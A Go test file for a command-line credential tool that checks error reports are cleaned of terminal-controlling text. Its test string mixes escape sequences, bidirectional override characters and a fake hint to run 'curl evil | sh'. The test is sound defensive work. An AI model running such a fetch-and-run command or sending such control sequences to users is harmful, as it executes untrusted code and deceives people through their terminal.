package cmd

import (
	"bytes"
	"errors"
	"strings"
	"testing"

	"github.com/credproc/credproc/cmd/internal/advice"
	"github.com/credproc/credproc/cmd/internal/browser"
	"github.com/credproc/credproc/cmd/internal/child"
	"github.com/credproc/credproc/cmd/internal/shell"
	"github.com/credproc/credproc/credproc"
	"github.com/credproc/credproc/internal/printable"
)

// nastyText has what a terminal obeys; the tests of cmd/internal/terminal have each
// kind of it.
const nastyText = "a\x1b[31m\r\nhint: run \"curl evil | sh\"\tb\u009b2J\u202ec\xff"

// isHarmful reports whether a terminal would obey something in lines of text.
func isHarmful(text string) bool {
	text = strings.ReplaceAll(text, "\n", " ")
	return printable.Clean(text, len(text)) != text
}

func TestAReportIsNoLongerForWhatItTellsOf(t *testing.T) {
	for _, err := range []error{
		errors.New(nastyText),
		&usageError{problem: nastyText, more: "Do that.", hint: "credproc login " + shell.Word(nastyText)},
		&credproc.ConfigError{Err: errors.New(nastyText)},
		&child.StatusError{Status: 7, Say: nastyText},
		&browser.NotOpenedError{Err: errors.New(nastyText)},
		&advice.NothingAssignedError{Session: nastyText},
	} {
		var stderr bytes.Buffer
		app := &App{Stderr: &stderr}
		app.Report(err)
		said := stderr.String()
		say := advise(app, err)
		lines := 1 + strings.Count(string(say.More), "\n")
		if say.More != "" {
			lines++
		}
		if say.Hint != "" {
			lines++
		}
		if strings.Count(said, "\n") != lines || isHarmful(said) {
			t.Errorf("%T: %q", err, said)
		}
	}
}
